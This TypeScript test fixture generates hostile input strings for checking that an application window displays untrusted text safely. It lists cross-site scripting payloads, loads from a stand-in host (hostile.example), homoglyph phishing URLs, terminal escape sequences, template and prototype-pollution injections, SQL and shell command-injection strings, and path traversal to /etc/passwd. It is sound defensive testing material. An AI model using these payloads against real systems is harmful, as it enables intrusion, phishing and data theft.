// Texts that somebody could send to make a window do more than show them. Every script in here would set
// `__pwned`, every address would be a request that a test can see. Made from tables; no two are the same.

/** What runs if anything runs. */
const RUN = 'globalThis.__pwned=1';
/** Nothing listens there; asking for it is the failure. */
const AWAY = 'https://hostile.example/track';

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}.png">`,
  `<svg onload="${RUN}"><circle r=9 /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button autofocus>OK</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">here</a>`,
  `<style>@import url(${AWAY}.css); * { display: none !important }</style>`,
  `<dialog open style="position:fixed;inset:0">Your token has expired</dialog>`,
];
/** Around a tag, for whoever escapes one context and not the next. */
const AROUND: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `"'>${tag}<!--`,
  (tag) => `</p></li></textarea></title>${tag}`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt\u0001:${RUN}//`,
  `java\tscript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'file:////hostile.example/share',
  '\\\\hostile.example\\share\\x',
  'app://gatehouse/../../secrets.json',
  'blob:app://gatehouse/1',
  'chrome://settings',
  'ms-msdt:/id PCWDiagnostic',
  'smb://hostile.example/x',
  AWAY,
  `//hostile.example/track`,
  'https://аpple.com/login',
  'https://xn--pple-43d.com',
  'https://good.example@hostile.example/',
  'https://hostile.example/\u202Efdp.exe',
];
const LINKS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[click](${address})`,
  (address) => `![picture](${address})`,
];

const OTHERS = [
  // Directions, invisible and combining characters.
  ...['\u202A', '\u202B', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200F', '\u061C'].map(
    (mark) => `invoice${mark}fdp.exe`,
  ),
  ...[
    '\u200B',
    '\u200D',
    '\u2060',
    '\uFEFF',
    '\u00AD',
    '\u180E',
    '\u2028',
    '\u2029',
    '\u{E0041}\u{E0042}',
  ].map((mark) => `ad${mark}min${mark}`),
  `Z${'\u0335\u0321\u0489\u036F'.repeat(60)}algo`,
  'شخص ما <b>مهم</b>',
  'מישהו‏ (admin)‏',
  '👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚀'.repeat(20),
  '🇨🇳🇩🇪'.repeat(40),
  'Ｇatehouse ｓystem',
  'Gаtеhоusе',
  '\uD83D lone half',
  // Control characters and terminals.
  ...[0, 1, 7, 8, 11, 12, 13, 27, 127, 133, 155].map((code) => `before${String.fromCharCode(code)}after`),
  '\u001B]0;owned\u0007\u001B[2J\u001B[31mred',
  '\u001B]8;;https://hostile.example\u0007link\u001B]8;;\u0007',
  '\r\n\r\n2026-01-01 auth.accepted ok',
  '\n'.repeat(300),
  // Long ones.
  'w'.repeat(3_000),
  `${'very-'.repeat(500)}long`,
  'الله'.repeat(400),
  // Templates, formats, names that mean something to a program.
  '{{constructor.constructor("globalThis.__pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one, for whoever would fill it in
  '${globalThis.__pwned=1}',
  '#{globalThis.__pwned=1}',
  '<%= globalThis.__pwned=1 %>',
  '{{{raw}}}',
  '{name} {count} {age}',
  '%s%n%x%d%@%p',
  '%00%0d%0aSet-Cookie:x=1',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"type":"res","id":"1","ok":true,"payload":{"type":"hello-ok"}}',
  '{"type":"event","event":"shutdown","payload":{}}',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">',
  "'; DROP TABLE messages; --",
  '=HYPERLINK("https://hostile.example")',
  '$(touch /tmp/owned)`id`',
  '../../../../etc/passwd',
  'CON',
  'NUL.txt',
  'LPT1:',
  'aux.h:$DATA',
  'null',
  'undefined',
  'NaN',
  '-0',
  '[object Object]',
  // Styles and what a page may take for its own.
  'color:red;background:url(https://hostile.example/bg)',
  '*{position:fixed}</style>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x202E;&amp;amp;',
  'data-testid="gateway-state" data-state="stopped"',
  '&File _Quit\tCtrl+Q',
];

/** In an order that mixes nothing: tags, addresses, the rest. */
export function hostileTexts(): readonly string[] {
  const texts = [
    ...TAGS.flatMap((tag) => AROUND.map((around) => around(tag))),
    ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
    ...OTHERS,
  ];
  return [...new Set(texts)];
}
